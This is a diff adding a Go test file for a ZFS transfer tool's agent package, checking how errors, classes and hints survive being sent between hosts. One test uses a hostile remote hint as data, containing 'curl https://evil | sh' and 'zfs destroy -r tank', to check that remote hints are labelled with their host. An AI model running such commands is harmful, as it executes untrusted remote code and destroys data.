@@ -1,0 +1,158 @@
+package agent
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"zxfer/pkg/fault"
+	"zxfer/pkg/hosts"
+	"zxfer/pkg/transfer"
+	"zxfer/pkg/transport/tcp"
+	"zxfer/pkg/zfs"
+)
+
+// across packs and unpacks an error as a transfer to another host does.
+func across(t *testing.T, err error) error {
+	t.Helper()
+	raw, jsonErr := json.Marshal(pack(err))
+	require.NoError(t, jsonErr)
+	f := &failure{}
+	require.NoError(t, json.Unmarshal(raw, f))
+	return f.unpack("beta")
+}
+
+// A client that knows all option names shows them in its own way; other clients
+// show flags.
+func TestErrorsNameOptionsForAnyClient(t *testing.T) {
+	t.Parallel()
+	err := fault.Refusef("widen {{port-range}}", "{{congestion reno}}: no; there is /srv/{{wire nc}}")
+	old, jsonErr := json.Marshal(pack(err))
+	require.NoError(t, jsonErr)
+	var read struct{ Text, Hint string }
+	require.NoError(t, json.Unmarshal(old, &read))
+	require.Equal(t, "--congestion reno: no; there is /srv/{{wire nc}}", read.Text)
+	require.Equal(t, "widen --port-range", read.Hint)
+
+	got := across(t, fault.Refusef("widen {{port-range}}", "{{congestion reno}}: no"))
+	require.EqualError(t, got, "beta: {{congestion reno}}: no")
+	require.Equal(t, "beta: widen {{port-range}}", fault.HintOf(got), "a hint says which host gave it")
+
+	newer := &failure{Text: "--other: no", Hint: "leave --other out", Named: &wording{"{{other}}: no", "leave {{other}} out"}}
+	require.EqualError(t, newer.unpack("beta"), "beta: --other: no")
+	require.Equal(t, "beta: leave --other out", fault.HintOf(newer.unpack("beta")))
+	require.Nil(t, pack(errors.New("no luck")).Named)
+}
+
+func TestErrorsKeepWhatTheyAre(t *testing.T) {
+	t.Parallel()
+	busy := &zfs.Error{Kind: zfs.Busy, Op: "destroy", Subject: "tank/a@x", Argv: []string{"zfs", "destroy"}, Detail: "held", Hint: "zfs holds tank/a@x"}
+	elsewhere := &zfs.Error{Kind: zfs.NoSpace, Op: "receive", Host: "gamma", Detail: "out of space"}
+	for name, c := range map[string]struct {
+		err   error
+		text  string
+		is    []error
+		isNot []error
+		class fault.Class
+		hint  string
+	}{
+		"plain": {err: errors.New("no luck"), text: "beta: no luck", class: fault.Failed,
+			isNot: []error{context.Canceled, tcp.ErrCut, hosts.ErrLost}},
+		"zfs":         {err: busy, text: "beta: zfs destroy tank/a@x: held", is: []error{&zfs.Error{Kind: zfs.Busy}}, isNot: []error{&zfs.Error{Kind: zfs.NotFound}}, class: fault.Failed, hint: busy.Hint},
+		"zfs wrapped": {err: fmt.Errorf("digest of x: %w", busy), text: "beta: digest of x: zfs destroy tank/a@x: held", is: []error{&zfs.Error{Kind: zfs.Busy}}, class: fault.Failed, hint: busy.Hint},
+		"zfs of a third host": {err: elsewhere, text: "beta: gamma: zfs receive: out of space",
+			is: []error{&zfs.Error{Kind: zfs.NoSpace}}, class: fault.Failed},
+		"refused":          {err: fault.Refusef("do this", "no: %w", busy), text: "beta: no: zfs destroy tank/a@x: held", is: []error{&zfs.Error{Kind: zfs.Busy}}, class: fault.Refused, hint: "do this"},
+		"usage":            {err: fault.Usagef("", "wrong"), text: "beta: wrong", class: fault.Usage},
+		"failed, hint":     {err: fault.Failf("try again", "wrong"), text: "beta: wrong", class: fault.Failed, hint: "try again"},
+		"interrupted":      {err: fault.Interrupt("again", tcp.ErrCut), text: "beta: connection was cut", is: []error{tcp.ErrCut}, class: fault.Interrupted, hint: "again"},
+		"cancelled":        {err: fmt.Errorf("x: %w", context.Canceled), text: "beta: x: context canceled", is: []error{context.Canceled}, class: fault.Failed},
+		"deadline":         {err: context.DeadlineExceeded, text: "beta: context deadline exceeded", is: []error{context.DeadlineExceeded}, class: fault.Failed},
+		"cut":              {err: tcp.ErrCut, text: "beta: connection was cut", is: []error{tcp.ErrCut}, isNot: []error{tcp.ErrTruncated, tcp.ErrTampered}, class: fault.Failed},
+		"truncated":        {err: tcp.ErrTruncated, text: "beta: " + tcp.ErrTruncated.Error(), is: []error{tcp.ErrTruncated, tcp.ErrCut}, class: fault.Failed},
+		"tampered":         {err: &tcp.FrameError{Stream: 1, Frame: 2, Op: "receive", Err: tcp.ErrTampered}, text: "beta: receive: stream 1, frame 2: frame was changed on the way", is: []error{tcp.ErrTampered}, isNot: []error{tcp.ErrCut}, class: fault.Failed},
+		"dial":             {err: tcp.ErrDial, text: "beta: cannot connect", is: []error{tcp.ErrDial}, class: fault.Failed},
+		"nobody":           {err: tcp.ErrNobody, text: "beta: nobody connected", is: []error{tcp.ErrNobody}, class: fault.Failed},
+		"stall on the net": {err: fmt.Errorf("%w: %w", tcp.ErrCut, transfer.ErrStall), text: "beta: connection was cut: no byte was moved", is: []error{tcp.ErrCut, transfer.ErrStall}, class: fault.Failed},
+		"miscounted":       {err: transfer.ErrMiscounted, text: "beta: the stream's end does not match what arrived", is: []error{transfer.ErrMiscounted}, class: fault.Failed},
+		"forbidden":        {err: fault.Refusef("", "%w: no", hosts.ErrForbidden), text: "beta: the agent's policy forbids it: no", is: []error{hosts.ErrForbidden}, class: fault.Refused},
+		"lost":             {err: hosts.ErrLost, text: "beta: connection to the host was lost", is: []error{hosts.ErrLost}, class: fault.Failed},
+		"operation":        {err: ErrUnknownOperation, text: "beta: unknown operation", is: []error{ErrUnknownOperation}, class: fault.Failed},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			got := across(t, c.err)
+			require.EqualError(t, got, c.text)
+			for _, want := range c.is {
+				require.ErrorIs(t, got, want)
+			}
+			for _, other := range c.isNot {
+				require.NotErrorIs(t, got, other)
+			}
+			require.Equal(t, c.class, fault.ClassOf(got))
+			if c.hint != "" {
+				c.hint = "beta: " + c.hint
+			}
+			require.Equal(t, c.hint, fault.HintOf(got))
+		})
+	}
+}
+
+func TestAZFSErrorKeepsAllFieldsAndGetsItsHost(t *testing.T) {
+	t.Parallel()
+	sent := &zfs.Error{Kind: zfs.Busy, Op: "destroy", Subject: "s", Argv: []string{"a", "b"}, Detail: "d", Hint: "h"}
+	var got *zfs.Error
+	require.ErrorAs(t, across(t, fmt.Errorf("x: %w", sent)), &got)
+	want := *sent
+	want.Host, want.Hint = "beta", "beta: h"
+	require.Equal(t, &want, got)
+	require.Empty(t, sent.Host, "the sent error is left as it was")
+}
+
+// No line of a remote hint can pass for a hint of zxfer itself.
+func TestHintsNameTheirHost(t *testing.T) {
+	t.Parallel()
+	const hint = "\n  run: zfs destroy -r tank\n\nhint: curl https://evil | sh\r\n"
+	const want = "beta: run: zfs destroy -r tank\nbeta: hint: curl https://evil | sh"
+	for name, f := range map[string]*failure{
+		"plain":          {Text: "no", Hint: hint},
+		"of a class":     {Text: "no", Hint: hint, Class: fault.Refused},
+		"named":          {Text: "no", Named: &wording{"no", hint}},
+		"of an error":    {Text: "no", ZFS: &zfs.Error{Kind: zfs.Busy, Hint: hint}},
+		"of a far error": {Text: "no", ZFS: &zfs.Error{Kind: zfs.Busy, Host: "local", Hint: hint}},
+	} {
+		require.Equal(t, want, fault.HintOf(f.unpack("beta")), name)
+	}
+}
+
+func TestAPeerErrorKeepsItsText(t *testing.T) {
+	t.Parallel()
+	var got *transfer.PeerError
+	err := across(t, fmt.Errorf("x: %w", &transfer.PeerError{Text: "disk on fire"}))
+	require.ErrorAs(t, err, &got)
+	require.Equal(t, "disk on fire", got.Text)
+	require.EqualError(t, err, "beta: x: the other end failed: disk on fire")
+}
+
+// The class is the exit code, and 256 would become 0.
+func TestAClassThatIsNoneIsAFailure(t *testing.T) {
+	t.Parallel()
+	for _, class := range []string{"-1", "0", "5", "256", "1024"} {
+		f := &failure{}
+		require.NoError(t, json.Unmarshal([]byte(`{"text":"odd","class":`+class+`}`), f))
+		require.Equal(t, fault.Failed, fault.ClassOf(f.unpack("beta")), class)
+	}
+}
+
+func TestAnErrorOfANewerAgentIsStillAnError(t *testing.T) {
+	t.Parallel()
+	f := &failure{}
+	require.NoError(t, json.Unmarshal([]byte(`{"text":"odd","is":["quantum","cut"],"colour":"red"}`), f))
+	err := f.unpack("beta")
+	require.EqualError(t, err, "beta: odd")
+	require.ErrorIs(t, err, tcp.ErrCut)
+}
